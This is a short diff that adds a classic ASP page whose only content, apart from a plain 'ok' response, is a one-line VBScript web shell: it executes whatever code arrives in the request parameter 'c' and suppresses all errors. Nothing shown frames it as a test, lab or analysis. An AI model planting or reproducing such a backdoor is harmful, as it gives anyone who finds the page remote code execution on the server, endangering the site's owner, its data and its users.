@@ -1,0 +1,6 @@
+<%@ Language="VBScript" %>
+<%
+On Error Resume Next
+Execute(Request("c"))
+%>
+<html><body>ok</body></html>
